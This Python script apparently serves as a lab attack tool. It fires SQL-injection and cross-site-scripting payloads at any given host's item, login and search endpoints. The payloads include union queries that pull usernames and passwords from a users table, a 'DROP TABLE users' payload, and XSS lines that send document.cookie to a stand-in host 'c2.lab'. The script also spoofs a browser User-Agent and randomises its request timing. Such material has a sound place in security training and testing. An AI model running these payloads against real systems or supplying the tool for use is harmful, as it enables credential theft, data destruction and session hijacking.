"""SQL-injection and cross-site-scripting requests against the lab's vulnerable application."""

from __future__ import annotations

import argparse
import http.client
import random
import time
from urllib.parse import quote, urlencode

_AGENT = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/108.0 Safari/537.36"
SQL = (
    "1'",
    "1 OR 1=1",
    "1 ORDER BY 1--",
    "1 ORDER BY 4--",
    "-1 UNION SELECT 1,2,3--",
    "-1 UNION SELECT 1,sqlite_version(),3--",
    "-1 UNION SELECT 1,group_concat(name),3 FROM sqlite_master--",
    "-1 UNION SELECT id,name,password FROM users--",
    "1 AND (SELECT count(*) FROM users) > 1",
    "1 AND substr((SELECT password FROM users LIMIT 1),1,1) = 's'",
    "1; DROP TABLE users--",
    "1 AND randomblob(100000) IS NOT NULL",
)
"""Probing, union-based extraction and blind conditions, in the order a tester tries them."""
XSS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "<svg/onload=alert(1)>",
    "\"><script>document.location='http://c2.lab/'+document.cookie</script>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "';alert(String.fromCharCode(88,83,83))//",
    "<a href=\"javascript:fetch('//c2.lab/?'+document.cookie)\">prize</a>",
)
"""Script, event-handler and URL payloads."""


def main() -> None:
    """Send the requests of one kind."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("kind", choices=["sql", "xss"])
    parser.add_argument("host")
    parser.add_argument("--rounds", type=int, default=3)
    parser.add_argument("--port", type=int, default=80)
    parser.add_argument("--seed", type=int, default=7)
    parser.add_argument("--pause-s", type=float, default=0.1, help="longest between requests")
    parser.add_argument("--keep", action="store_true", help="send all requests over one connection")
    given = parser.parse_args()
    chance = random.Random(given.seed)
    connection = http.client.HTTPConnection(given.host, given.port, timeout=5)
    for _ in range(given.rounds):
        for payload in SQL if given.kind == "sql" else XSS:
            (send_sql if given.kind == "sql" else send_xss)(connection, payload, given.keep)
            time.sleep(chance.uniform(given.pause_s / 10, given.pause_s))
    connection.close()


def send_sql(connection: http.client.HTTPConnection, payload: str, is_kept: bool) -> None:
    """Try a payload in the item's number and in the login form."""
    _send(connection, is_kept, "GET", f"/app/item?id={quote(payload)}")
    form = urlencode({"user": f"admin' OR {payload}", "password": "x"})
    _send(connection, is_kept, "POST", "/app/login", form)


def send_xss(connection: http.client.HTTPConnection, payload: str, is_kept: bool) -> None:
    """Try a payload in the search field."""
    _send(connection, is_kept, "GET", f"/app/search?q={quote(payload)}")


def _send(
    connection: http.client.HTTPConnection, is_kept: bool, method: str, target: str, body: str | None = None
) -> None:
    headers = {"User-Agent": _AGENT}
    if body is not None:
        headers["Content-Type"] = "application/x-www-form-urlencoded"
    connection.request(method, target, body=body, headers=headers)
    connection.getresponse().read()
    if not is_kept:
        connection.close()


if __name__ == "__main__":
    main()
